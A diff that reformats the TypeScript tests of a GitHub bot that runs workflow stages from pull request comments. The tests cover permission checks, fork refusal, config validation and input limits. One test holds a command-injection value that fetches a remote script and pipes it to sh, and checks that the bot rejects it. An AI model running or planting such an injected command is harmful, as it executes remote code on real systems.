@@ -55,15 +55,27 @@ function prefetched(gh: GitHubMock): GitHubMock {
 
 /** The pull request (#1, same repository) that adds the plan, and the plan itself at its head. */
 function planOnPullRequest(gh: GitHubMock): GitHubMock {
-  return gh.pull(1, { headSha: HEAD_SHA }).pullFiles(1, [{ filename: PLAN_PATH, status: 'added' }, { filename: 'README.md' }]).file(PLAN_PATH, PLAN_TEXT, HEAD_SHA);
+  return gh
+    .pull(1, { headSha: HEAD_SHA })
+    .pullFiles(1, [{ filename: PLAN_PATH, status: 'added' }, { filename: 'README.md' }])
+    .file(PLAN_PATH, PLAN_TEXT, HEAD_SHA);
 }
 
 describe('issue_comment.created', () => {
   it("a write user's `/okstra stage 2` creates the queued check, then dispatches the workflow with the right inputs", async () => {
     const gh = accepted(new GitHubMock(REPO));
-    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).workflow(OKSTRA_WORKFLOW, BRANCH).createCheck(5001).dispatch().reaction(COMMENT_ID);
+    planOnPullRequest(gh)
+      .ledger(PLAN_ID, [doneRow(1)])
+      .workflow(OKSTRA_WORKFLOW, BRANCH)
+      .createCheck(5001)
+      .dispatch()
+      .reaction(COMMENT_ID);
 
-    await receive(prComment('Stage 1 looks right.\n\n/okstra stage 2 --executor codex --verifiers claude,gemini --model claude=claude-sonnet-4-5'));
+    await receive(
+      prComment(
+        'Stage 1 looks right.\n\n/okstra stage 2 --executor codex --verifiers claude,gemini --model claude=claude-sonnet-4-5',
+      ),
+    );
 
     expect(gh.bodies.createCheck).toEqual([
       {
@@ -99,17 +111,35 @@ describe('issue_comment.created', () => {
   });
 
   it('refuses a read-only user with 😕 and a short reply, and starts nothing', async () => {
-    const gh = prefetched(accepted(new GitHubMock(REPO), 'read')).reaction(COMMENT_ID).comment(1);
+    const gh = prefetched(accepted(new GitHubMock(REPO), 'read'))
+      .reaction(COMMENT_ID)
+      .comment(1);
     await receive(prComment('/okstra stage 2'));
     expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'confused' }]);
-    expect(gh.bodies.comment).toEqual([{ body: `@${USER} @${USER} has \`read\` access to this repository; okstra takes commands from people with \`write\` access or more.` }]);
+    expect(gh.bodies.comment).toEqual([
+      {
+        body: `@${USER} @${USER} has \`read\` access to this repository; okstra takes commands from people with \`write\` access or more.`,
+      },
+    ]);
   });
 
   it('counts a triage role as below write, and honours a lower bot.permission', async () => {
-    const gh = new GitHubMock(REPO).token().reaction(COMMENT_ID).config('bot:\n  permission: triage\n').permission(USER, 'read', 'triage');
-    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).workflow(OKSTRA_WORKFLOW, BRANCH).createCheck(5002).dispatch().reaction(COMMENT_ID);
+    const gh = new GitHubMock(REPO)
+      .token()
+      .reaction(COMMENT_ID)
+      .config('bot:\n  permission: triage\n')
+      .permission(USER, 'read', 'triage');
+    planOnPullRequest(gh)
+      .ledger(PLAN_ID, [doneRow(1)])
+      .workflow(OKSTRA_WORKFLOW, BRANCH)
+      .createCheck(5002)
+      .dispatch()
+      .reaction(COMMENT_ID);
     await receive(prComment('/okstra stage 2'));
-    expect(gh.bodies.dispatch?.[0]).toMatchObject({ ref: 'master', inputs: { stage: '2', 'plan-ref': HEAD_SHA, 'check-run-id': '5002' } });
+    expect(gh.bodies.dispatch?.[0]).toMatchObject({
+      ref: 'master',
+      inputs: { stage: '2', 'plan-ref': HEAD_SHA, 'check-run-id': '5002' },
+    });
   });
 
   it('ignores a bot: no reaction, no reply, no request at all', async () => {
@@ -123,7 +153,11 @@ describe('issue_comment.created', () => {
   });
 
   it('refuses a pull request from a fork unless the config allows forks', async () => {
-    const gh = accepted(new GitHubMock(REPO)).pull(1, { headSha: HEAD_SHA, headRepo: 'mallory/Hello-World' }).pullFiles(1, []).reaction(COMMENT_ID).comment(1);
+    const gh = accepted(new GitHubMock(REPO))
+      .pull(1, { headSha: HEAD_SHA, headRepo: 'mallory/Hello-World' })
+      .pullFiles(1, [])
+      .reaction(COMMENT_ID)
+      .comment(1);
     await receive(prComment('/okstra stage 2'));
     expect(gh.bodies.reaction?.at(-1)).toEqual({ content: 'confused' });
     expect(gh.bodies.comment?.[0]?.body).toContain('comes from the fork `mallory/Hello-World`');
@@ -131,7 +165,11 @@ describe('issue_comment.created', () => {
   });
 
   it('runs a fork pull request when bot.allowForks is set, from the default branch when the plan is there', async () => {
-    const gh = new GitHubMock(REPO).token().reaction(COMMENT_ID).config('bot:\n  allowForks: true\n').permission(USER, 'admin');
+    const gh = new GitHubMock(REPO)
+      .token()
+      .reaction(COMMENT_ID)
+      .config('bot:\n  allowForks: true\n')
+      .permission(USER, 'admin');
     gh.pull(1, { headSha: HEAD_SHA, headRepo: 'mallory/Hello-World' }).pullFiles(1, [{ filename: 'src/app.ts' }]);
     gh.dir('.okstra/plans', 'master', ['password-reset.md']).file(PLAN_PATH, PLAN_TEXT, 'master');
     gh.ledger(PLAN_ID, null).workflow(OKSTRA_WORKFLOW, 'master').createCheck(5003).dispatch().reaction(COMMENT_ID);
@@ -141,16 +179,26 @@ describe('issue_comment.created', () => {
     expect(gh.bodies.dispatch?.[0]?.inputs).not.toHaveProperty('plan-ref');
   });
 
-  it('refuses a fork pull request that brings its own plan, which is not on this repository\'s branches', async () => {
-    const gh = new GitHubMock(REPO).token().reaction(COMMENT_ID).config('bot:\n  allowForks: true\n').permission(USER, 'admin');
-    gh.pull(1, { headSha: HEAD_SHA, headRepo: 'mallory/Hello-World' }).pullFiles(1, [{ filename: PLAN_PATH, status: 'added' }]).file(PLAN_PATH, PLAN_TEXT, HEAD_SHA);
+  it("refuses a fork pull request that brings its own plan, which is not on this repository's branches", async () => {
+    const gh = new GitHubMock(REPO)
+      .token()
+      .reaction(COMMENT_ID)
+      .config('bot:\n  allowForks: true\n')
+      .permission(USER, 'admin');
+    gh.pull(1, { headSha: HEAD_SHA, headRepo: 'mallory/Hello-World' })
+      .pullFiles(1, [{ filename: PLAN_PATH, status: 'added' }])
+      .file(PLAN_PATH, PLAN_TEXT, HEAD_SHA);
     gh.reaction(COMMENT_ID).comment(1);
     await receive(prComment('/okstra stage 1'));
     expect(gh.bodies.comment?.[0]?.body).toContain('whose branch lives in a fork');
   });
 
   it('refuses to start a run on a closed pull request', async () => {
-    const gh = accepted(new GitHubMock(REPO)).pull(1, { headSha: HEAD_SHA, state: 'closed' }).pullFiles(1, []).reaction(COMMENT_ID).comment(1);
+    const gh = accepted(new GitHubMock(REPO))
+      .pull(1, { headSha: HEAD_SHA, state: 'closed' })
+      .pullFiles(1, [])
+      .reaction(COMMENT_ID)
+      .comment(1);
     await receive(prComment('/okstra run'));
     expect(gh.bodies.comment?.[0]?.body).toContain('this pull request is closed');
   });
@@ -165,19 +213,29 @@ describe('issue_comment.created', () => {
   });
 
   it('ignores a command inside a code block, a quote or an HTML comment: no request at all', async () => {
-    await receive(prComment('To run it:\n\n```\n/okstra stage 2\n```\n\n> /okstra stage 2\n\n<!-- /okstra stage 2 -->'));
+    await receive(
+      prComment('To run it:\n\n```\n/okstra stage 2\n```\n\n> /okstra stage 2\n\n<!-- /okstra stage 2 -->'),
+    );
   });
 
   it('refuses a stage that is not in the plan, naming its stages', async () => {
     const gh = accepted(new GitHubMock(REPO));
     // The workflow file is read alongside the ledger, before the stage is known to be missing.
-    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).workflow(OKSTRA_WORKFLOW, BRANCH).reaction(COMMENT_ID).comment(1);
+    planOnPullRequest(gh)
+      .ledger(PLAN_ID, [doneRow(1)])
+      .workflow(OKSTRA_WORKFLOW, BRANCH)
+      .reaction(COMMENT_ID)
+      .comment(1);
     await receive(prComment('/okstra stage 9'));
-    expect(gh.bodies.comment?.[0]?.body).toBe(`@${USER} okstra:\n\n- \`/okstra stage 9\`: stage 9 is not in plan \`password-reset\` (its stages: 1, 2, 3).`);
+    expect(gh.bodies.comment?.[0]?.body).toBe(
+      `@${USER} okstra:\n\n- \`/okstra stage 9\`: stage 9 is not in plan \`password-reset\` (its stages: 1, 2, 3).`,
+    );
   });
 
   it('refuses a value carrying shell metacharacters before anything is started', async () => {
-    const gh = prefetched(accepted(new GitHubMock(REPO))).reaction(COMMENT_ID).comment(1);
+    const gh = prefetched(accepted(new GitHubMock(REPO)))
+      .reaction(COMMENT_ID)
+      .comment(1);
     await receive(prComment('/okstra stage 2 --executor codex;curl${IFS}evil.sh|sh'));
     const body = String(gh.bodies.comment?.[0]?.body);
     expect(body).toContain('contains characters okstra does not accept (`;` `$` `{` `}` `|`)');
@@ -193,22 +251,33 @@ describe('issue_comment.created', () => {
 
   it('runs several commands in order and answers each that needs it in one reply', async () => {
     const gh = accepted(new GitHubMock(REPO));
-    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).workflow(OKSTRA_WORKFLOW, BRANCH).createCheck(5004).dispatch();
+    planOnPullRequest(gh)
+      .ledger(PLAN_ID, [doneRow(1)])
+      .workflow(OKSTRA_WORKFLOW, BRANCH)
+      .createCheck(5004)
+      .dispatch();
     // The second command reads the plan and the ledger again (each command stands alone; the pull request and its files are read once) and finds stage 3 blocked.
-    gh.file(PLAN_PATH, PLAN_TEXT, HEAD_SHA).ledger(PLAN_ID, [doneRow(1)]).workflow(OKSTRA_WORKFLOW, BRANCH);
+    gh.file(PLAN_PATH, PLAN_TEXT, HEAD_SHA)
+      .ledger(PLAN_ID, [doneRow(1)])
+      .workflow(OKSTRA_WORKFLOW, BRANCH);
     gh.reaction(COMMENT_ID, 2).comment(1);
     await receive(prComment('/okstra stage 2\n/okstra stage 3\n/okstra help'));
     expect(gh.bodies.dispatch?.[0]?.inputs).toMatchObject({ stage: '2' });
     expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'rocket' }, { content: 'confused' }]);
     const body = String(gh.bodies.comment?.[0]?.body);
-    expect(body.indexOf('`/okstra stage 3`: stage 3 of plan `password-reset` waits for stage 2, not done yet.')).toBeGreaterThan(0);
+    expect(
+      body.indexOf('`/okstra stage 3`: stage 3 of plan `password-reset` waits for stage 2, not done yet.'),
+    ).toBeGreaterThan(0);
     expect(body.indexOf('`/okstra help`: the commands are below.')).toBeGreaterThan(body.indexOf('/okstra stage 3'));
     expect(body).toContain('**okstra commands**');
   });
 
   it('`/okstra status` posts the plan status as a sticky comment with the table and the graph', async () => {
     const gh = accepted(new GitHubMock(REPO));
-    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).listComments(1, [{ id: 1, body: 'unrelated' }]).comment(1);
+    planOnPullRequest(gh)
+      .ledger(PLAN_ID, [doneRow(1)])
+      .listComments(1, [{ id: 1, body: 'unrelated' }])
+      .comment(1);
     await receive(prComment('/okstra status'));
     const body = String(gh.bodies.comment?.[0]?.body);
     expect(body.startsWith('<!-- okstra:status plan=password-reset -->\n### okstra plan `password-reset`')).toBe(true);
@@ -220,13 +289,19 @@ describe('issue_comment.created', () => {
 
   it('`/okstra status` again updates the status comment in place and points at it', async () => {
     const gh = accepted(new GitHubMock(REPO));
-    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1), doneRow(2)]).listComments(1, [{ id: 4242, body: '<!-- okstra:status plan=password-reset -->\nold' }]).updateComment(4242).comment(1);
+    planOnPullRequest(gh)
+      .ledger(PLAN_ID, [doneRow(1), doneRow(2)])
+      .listComments(1, [{ id: 4242, body: '<!-- okstra:status plan=password-reset -->\nold' }])
+      .updateComment(4242)
+      .comment(1);
     await receive(prComment('/okstra status'));
     expect(String(gh.bodies.updateComment?.[0]?.body)).toContain('| 2 | Reset API | 1 | ✅ done |');
-    expect(gh.bodies.comment?.[0]?.body).toContain('is updated [above](https://github.com/Codertocat/Hello-World/pull/1#issuecomment-4242)');
+    expect(gh.bodies.comment?.[0]?.body).toContain(
+      'is updated [above](https://github.com/Codertocat/Hello-World/pull/1#issuecomment-4242)',
+    );
   });
 
-  it('`/okstra cancel` cancels this pull request\'s unfinished okstra runs only', async () => {
+  it("`/okstra cancel` cancels this pull request's unfinished okstra runs only", async () => {
     const gh = accepted(new GitHubMock(REPO));
     gh.workflowRuns([
       { id: 71, title: `okstra ${PLAN_PATH} · pr 1 · checks 5001`, status: 'in_progress' },
@@ -235,27 +310,45 @@ describe('issue_comment.created', () => {
     ]);
     gh.cancelRun(71).comment(1);
     await receive(prComment('/okstra cancel'));
-    expect(gh.bodies.comment?.[0]?.body).toContain('cancelled [run 71](https://github.com/Codertocat/Hello-World/actions/runs/71)');
+    expect(gh.bodies.comment?.[0]?.body).toContain(
+      'cancelled [run 71](https://github.com/Codertocat/Hello-World/actions/runs/71)',
+    );
   });
 
   it('answers a configuration that does not validate, naming the key', async () => {
-    const gh = prefetched(new GitHubMock(REPO).token().reaction(COMMENT_ID).config('bot:\n  permision: read\n').permission(USER, 'write')).reaction(COMMENT_ID).comment(1);
+    const gh = prefetched(
+      new GitHubMock(REPO).token().reaction(COMMENT_ID).config('bot:\n  permision: read\n').permission(USER, 'write'),
+    )
+      .reaction(COMMENT_ID)
+      .comment(1);
     await receive(prComment('/okstra stage 2'));
-    expect(gh.bodies.comment?.[0]?.body).toContain('.okstra/config.yml: bot: unknown key "permision" (did you mean "permission"?)');
+    expect(gh.bodies.comment?.[0]?.body).toContain(
+      '.okstra/config.yml: bot: unknown key "permision" (did you mean "permission"?)',
+    );
   });
 
   it("reads .github/okstra.yml with Probot's loader when there is no .okstra/config.yml, and applies it", async () => {
     const gh = new GitHubMock(REPO).token().reaction(COMMENT_ID);
     // Probot's loader looks in the repository, then in the owner's `.github` repository, for each path.
-    gh.file('.okstra/config.yml', null).file('.okstra/config.yml', null, undefined, { owner: 'Codertocat', repo: '.github' });
-    prefetched(gh.file('.github/okstra.yml', 'bot:\n  permission: admin\n').permission(USER, 'write')).reaction(COMMENT_ID).comment(1);
+    gh.file('.okstra/config.yml', null).file('.okstra/config.yml', null, undefined, {
+      owner: 'Codertocat',
+      repo: '.github',
+    });
+    prefetched(gh.file('.github/okstra.yml', 'bot:\n  permission: admin\n').permission(USER, 'write'))
+      .reaction(COMMENT_ID)
+      .comment(1);
     await receive(prComment('/okstra stage 2'));
     expect(gh.bodies.comment?.[0]?.body).toContain('okstra takes commands from people with `admin` access or more.');
   });
 
   it('answers when GitHub fails midway, instead of leaving 👀 alone', async () => {
     const gh = accepted(new GitHubMock(REPO));
-    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).workflow(OKSTRA_WORKFLOW, BRANCH).createCheck(0, 502).reaction(COMMENT_ID).comment(1);
+    planOnPullRequest(gh)
+      .ledger(PLAN_ID, [doneRow(1)])
+      .workflow(OKSTRA_WORKFLOW, BRANCH)
+      .createCheck(0, 502)
+      .reaction(COMMENT_ID)
+      .comment(1);
     const logs: string[] = [];
     await receive(prComment('/okstra stage 2'), logs);
     expect(gh.bodies.reaction?.at(-1)).toEqual({ content: 'confused' });
@@ -266,8 +359,12 @@ describe('issue_comment.created', () => {
 
   it('refuses a stage that is already done, and one in progress', async () => {
     const gh = accepted(new GitHubMock(REPO));
-    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).workflow(OKSTRA_WORKFLOW, BRANCH);
-    gh.file(PLAN_PATH, PLAN_TEXT, HEAD_SHA).ledger(PLAN_ID, [doneRow(1), startedRow(2, 'gh-200-1-s2')]).workflow(OKSTRA_WORKFLOW, BRANCH);
+    planOnPullRequest(gh)
+      .ledger(PLAN_ID, [doneRow(1)])
+      .workflow(OKSTRA_WORKFLOW, BRANCH);
+    gh.file(PLAN_PATH, PLAN_TEXT, HEAD_SHA)
+      .ledger(PLAN_ID, [doneRow(1), startedRow(2, 'gh-200-1-s2')])
+      .workflow(OKSTRA_WORKFLOW, BRANCH);
     gh.reaction(COMMENT_ID).comment(1);
     await receive(prComment('/okstra stage 1\n/okstra stage 2'));
     const body = String(gh.bodies.comment?.[0]?.body);
@@ -285,18 +382,25 @@ describe('issue_comment.created', () => {
       const gh = accepted(new GitHubMock(REPO)).reaction(COMMENT_ID).comment(1);
       await receive(prComment(STARS));
       const body = String(gh.bodies.comment?.[0]?.body);
-      expect(body).toContain('- `/okstra *[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*...`: `*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*...` contains characters okstra does not accept (`*` `[`)');
+      expect(body).toContain(
+        '- `/okstra *[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*...`: `*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*[*...` contains characters okstra does not accept (`*` `[`)',
+      );
       expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'confused' }]);
     });
 
     it('`/okstra stage 2` followed by 65,000 `>` runs stage 2 (the quote below it is not a command), no 500', async () => {
       const gh = accepted(new GitHubMock(REPO));
-      planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).workflow(OKSTRA_WORKFLOW, BRANCH).createCheck(5005).dispatch().reaction(COMMENT_ID);
+      planOnPullRequest(gh)
+        .ledger(PLAN_ID, [doneRow(1)])
+        .workflow(OKSTRA_WORKFLOW, BRANCH)
+        .createCheck(5005)
+        .dispatch()
+        .reaction(COMMENT_ID);
       await receive(prComment(QUOTES));
       expect(gh.bodies.dispatch?.[0]).toMatchObject({ inputs: { stage: '2', 'check-run-id': '5005' } });
     });
 
-    it('both answered through Probot\'s server with 200, not 500', async () => {
+    it("both answered through Probot's server with 200, not 500", async () => {
       const { startServer, post } = await import('./harness.js');
       const server = await startServer();
       try {
@@ -304,18 +408,27 @@ describe('issue_comment.created', () => {
         expect((await post(server.url, 'issue_comment', prComment(STARS))).status).toBe(200);
         // The server's Probot keeps the installation token of the first delivery.
         const gh = new GitHubMock(REPO).reaction(COMMENT_ID).config(CONFIG).permission(USER, 'write');
-        planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).workflow(OKSTRA_WORKFLOW, BRANCH).createCheck(5006).dispatch().reaction(COMMENT_ID);
+        planOnPullRequest(gh)
+          .ledger(PLAN_ID, [doneRow(1)])
+          .workflow(OKSTRA_WORKFLOW, BRANCH)
+          .createCheck(5006)
+          .dispatch()
+          .reaction(COMMENT_ID);
         expect((await post(server.url, 'issue_comment', prComment(QUOTES))).status).toBe(200);
       } finally {
         await server.stop();
       }
     });
 
-    it('refuses a comment over 64 KiB that holds a command with a short reply, before reading the config or the sender\'s role', async () => {
+    it("refuses a comment over 64 KiB that holds a command with a short reply, before reading the config or the sender's role", async () => {
       // 40,000 two-byte characters: under GitHub's 65,536-character cap, over 64 KiB of UTF-8.
       const gh = new GitHubMock(REPO).token().reaction(COMMENT_ID).comment(1);
       await receive(prComment(`/okstra stage 2\n\n${'é'.repeat(40_000)}`));
-      expect(gh.bodies.comment).toEqual([{ body: `@${USER} okstra did not read this comment: it is 79 KiB, and okstra reads commands only from comments of up to 64 KiB. Post the \`/okstra\` command in a comment of its own.` }]);
+      expect(gh.bodies.comment).toEqual([
+        {
+          body: `@${USER} okstra did not read this comment: it is 79 KiB, and okstra reads commands only from comments of up to 64 KiB. Post the \`/okstra\` command in a comment of its own.`,
+        },
+      ]);
       expect(gh.bodies.reaction).toEqual([{ content: 'confused' }]);
     });
 
@@ -340,7 +453,12 @@ describe('issue_comment.created: /okstra reconcile', () => {
 
   it("a write user's `/okstra reconcile 2` on a done stage queues its check and dispatches mode reconcile", async () => {
     const gh = accepted(new GitHubMock(REPO));
-    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1), doneRow(2)]).workflow(OKSTRA_WORKFLOW, BRANCH).createCheck(5101).dispatch().reaction(COMMENT_ID);
+    planOnPullRequest(gh)
+      .ledger(PLAN_ID, [doneRow(1), doneRow(2)])
+      .workflow(OKSTRA_WORKFLOW, BRANCH)
+      .createCheck(5101)
+      .dispatch()
+      .reaction(COMMENT_ID);
     await receive(prComment('Stage 2 was force-pushed after review.\n\n/okstra reconcile 2'));
     expect(gh.bodies.createCheck).toEqual([
       {
@@ -353,18 +471,51 @@ describe('issue_comment.created: /okstra reconcile', () => {
     ]);
     // The 12 inputs' contract: `mode` carries the reconcile, `reset` is not sent.
     expect(gh.bodies.dispatch).toEqual([
-      { ref: BRANCH, inputs: { mode: 'reconcile', plan: PLAN_PATH, 'plan-ref': HEAD_SHA, stage: '2', 'pr-number': '1', 'check-run-id': '5101', trigger: 'comment', actor: USER } },
+      {
+        ref: BRANCH,
+        inputs: {
+          mode: 'reconcile',
+          plan: PLAN_PATH,
+          'plan-ref': HEAD_SHA,
+          stage: '2',
+          'pr-number': '1',
+          'check-run-id': '5101',
+          trigger: 'comment',
+          actor: USER,
+        },
+      },
     ]);
     expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'rocket' }]);
   });
 
   it('`/okstra reconcile 2 --reset` sends reset: true to a workflow that declares it', async () => {
     const gh = accepted(new GitHubMock(REPO));
-    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1), doneRow(2)]).workflow(OKSTRA_WORKFLOW, BRANCH).createCheck(5102).dispatch().reaction(COMMENT_ID);
+    planOnPullRequest(gh)
+      .ledger(PLAN_ID, [doneRow(1), doneRow(2)])
+      .workflow(OKSTRA_WORKFLOW, BRANCH)
+      .createCheck(5102)
+      .dispatch()
+      .reaction(COMMENT_ID);
     await receive(prComment('/okstra reconcile 2 --reset'));
-    expect(gh.bodies.createCheck?.[0]).toMatchObject({ name: 'okstra: password-reset · stage 2', output: { summary: QUEUED("put stage 2's moved branch back at the head its done row records") } });
+    expect(gh.bodies.createCheck?.[0]).toMatchObject({
+      name: 'okstra: password-reset · stage 2',
+      output: { summary: QUEUED("put stage 2's moved branch back at the head its done row records") },
+    });
     expect(gh.bodies.dispatch).toEqual([
-      { ref: BRANCH, inputs: { mode: 'reconcile', plan: PLAN_PATH, 'plan-ref': HEAD_SHA, stage: '2', 'pr-number': '1', 'check-run-id': '5102', trigger: 'comment', actor: USER, reset: 'true' } },
+      {
+        ref: BRANCH,
+        inputs: {
+          mode: 'reconcile',
+          plan: PLAN_PATH,
+          'plan-ref': HEAD_SHA,
+          stage: '2',
+          'pr-number': '1',
+          'check-run-id': '5102',
+          trigger: 'comment',
+          actor: USER,
+          reset: 'true',
+        },
+      },
     ]);
   });
 
@@ -372,34 +523,58 @@ describe('issue_comment.created: /okstra reconcile', () => {
     const older = OKSTRA_WORKFLOW.replace('      reset:\n        required: false\n', '');
     expect(older).not.toContain('reset:');
     const gh = accepted(new GitHubMock(REPO));
-    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1), doneRow(2)]).workflow(older, BRANCH);
-    gh.file(PLAN_PATH, PLAN_TEXT, HEAD_SHA).ledger(PLAN_ID, [doneRow(1), doneRow(2)]).workflow(older, BRANCH).createCheck(5103).dispatch();
+    planOnPullRequest(gh)
+      .ledger(PLAN_ID, [doneRow(1), doneRow(2)])
+      .workflow(older, BRANCH);
+    gh.file(PLAN_PATH, PLAN_TEXT, HEAD_SHA)
+      .ledger(PLAN_ID, [doneRow(1), doneRow(2)])
+      .workflow(older, BRANCH)
+      .createCheck(5103)
+      .dispatch();
     gh.reaction(COMMENT_ID).reaction(COMMENT_ID).comment(1);
     await receive(prComment('/okstra reconcile 2 --reset\n/okstra reconcile 2'));
     expect(gh.bodies.createCheck).toHaveLength(1);
-    expect(gh.bodies.dispatch).toEqual([expect.objectContaining({ inputs: expect.objectContaining({ mode: 'reconcile', stage: '2', 'check-run-id': '5103' }) })]);
+    expect(gh.bodies.dispatch).toEqual([
+      expect.objectContaining({
+        inputs: expect.objectContaining({ mode: 'reconcile', stage: '2', 'check-run-id': '5103' }),
+      }),
+    ]);
     expect(gh.bodies.dispatch?.[0]?.inputs).not.toHaveProperty('reset');
     const body = String(gh.bodies.comment?.[0]?.body);
-    expect(body).toContain('- `/okstra reconcile 2 --reset`: the workflow `.github/workflows/okstra.yml` cannot be used: its `workflow_dispatch` does not declare the input `reset` this command needs');
+    expect(body).toContain(
+      '- `/okstra reconcile 2 --reset`: the workflow `.github/workflows/okstra.yml` cannot be used: its `workflow_dispatch` does not declare the input `reset` this command needs',
+    );
     expect(body).not.toContain('- `/okstra reconcile 2`:');
     expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'rocket' }, { content: 'confused' }]);
   });
 
   it('refuses a read-only user with 😕 and a short reply, and starts nothing', async () => {
-    const gh = prefetched(accepted(new GitHubMock(REPO), 'read')).reaction(COMMENT_ID).comment(1);
+    const gh = prefetched(accepted(new GitHubMock(REPO), 'read'))
+      .reaction(COMMENT_ID)
+      .comment(1);
     await receive(prComment('/okstra reconcile 2'));
     expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'confused' }]);
-    expect(gh.bodies.comment).toEqual([{ body: `@${USER} @${USER} has \`read\` access to this repository; okstra takes commands from people with \`write\` access or more.` }]);
+    expect(gh.bodies.comment).toEqual([
+      {
+        body: `@${USER} @${USER} has \`read\` access to this repository; okstra takes commands from people with \`write\` access or more.`,
+      },
+    ]);
     expect(gh.bodies.createCheck).toBeUndefined();
     expect(gh.bodies.dispatch).toBeUndefined();
   });
 
   it('answers a stage that is not done from the ledger: no check, no dispatch', async () => {
     const gh = accepted(new GitHubMock(REPO));
-    planOnPullRequest(gh).ledger(PLAN_ID, [doneRow(1)]).workflow(OKSTRA_WORKFLOW, BRANCH).reaction(COMMENT_ID).comment(1);
+    planOnPullRequest(gh)
+      .ledger(PLAN_ID, [doneRow(1)])
+      .workflow(OKSTRA_WORKFLOW, BRANCH)
+      .reaction(COMMENT_ID)
+      .comment(1);
     await receive(prComment('/okstra reconcile 2'));
     expect(gh.bodies.comment).toEqual([
-      { body: `@${USER} okstra:\n\n- \`/okstra reconcile 2\`: stage 2 is not done; nothing to reconcile (reconcile is for a done stage whose branch moved; \`/okstra stage 2\` runs it).` },
+      {
+        body: `@${USER} okstra:\n\n- \`/okstra reconcile 2\`: stage 2 is not done; nothing to reconcile (reconcile is for a done stage whose branch moved; \`/okstra stage 2\` runs it).`,
+      },
     ]);
     expect(gh.bodies.reaction).toEqual([{ content: 'eyes' }, { content: 'confused' }]);
     expect(gh.bodies.createCheck).toBeUndefined();
@@ -407,14 +582,22 @@ describe('issue_comment.created: /okstra reconcile', () => {
   });
 
   it('refuses a reconcile on a closed pull request, as a run', async () => {
-    const gh = accepted(new GitHubMock(REPO)).pull(1, { headSha: HEAD_SHA, state: 'closed' }).pullFiles(1, []).reaction(COMMENT_ID).comment(1);
+    const gh = accepted(new GitHubMock(REPO))
+      .pull(1, { headSha: HEAD_SHA, state: 'closed' })
+      .pullFiles(1, [])
+      .reaction(COMMENT_ID)
+      .comment(1);
     await receive(prComment('/okstra reconcile 2'));
     expect(gh.bodies.comment?.[0]?.body).toContain('this pull request is closed');
     expect(gh.bodies.dispatch).toBeUndefined();
   });
 
   it('refuses a reconcile on a fork pull request, as a run', async () => {
-    const gh = accepted(new GitHubMock(REPO)).pull(1, { headSha: HEAD_SHA, headRepo: 'mallory/Hello-World' }).pullFiles(1, []).reaction(COMMENT_ID).comment(1);
+    const gh = accepted(new GitHubMock(REPO))
+      .pull(1, { headSha: HEAD_SHA, headRepo: 'mallory/Hello-World' })
+      .pullFiles(1, [])
+      .reaction(COMMENT_ID)
+      .comment(1);
     await receive(prComment('/okstra reconcile 2 --reset'));
     expect(gh.bodies.comment?.[0]?.body).toContain('comes from the fork `mallory/Hello-World`');
     expect(gh.bodies.dispatch).toBeUndefined();
@@ -422,10 +605,14 @@ describe('issue_comment.created: /okstra reconcile', () => {
 
   it('answers a malformed reconcile with the usage, which lists it', async () => {
     // A reconcile line has the pull request read alongside the role, as every launch does, before it is parsed.
-    const gh = prefetched(accepted(new GitHubMock(REPO))).reaction(COMMENT_ID).comment(1);
+    const gh = prefetched(accepted(new GitHubMock(REPO)))
+      .reaction(COMMENT_ID)
+      .comment(1);
     await receive(prComment('/okstra reconcile 2 --reset --executor codex'));
     const body = String(gh.bodies.comment?.[0]?.body);
-    expect(body).toContain('`--reset` puts the branch back at the recorded head without a run, so `--executor` cannot go with it');
+    expect(body).toContain(
+      '`--reset` puts the branch back at the recorded head without a run, so `--executor` cannot go with it',
+    );
     expect(body).toContain('`/okstra reconcile N`');
   });
 });
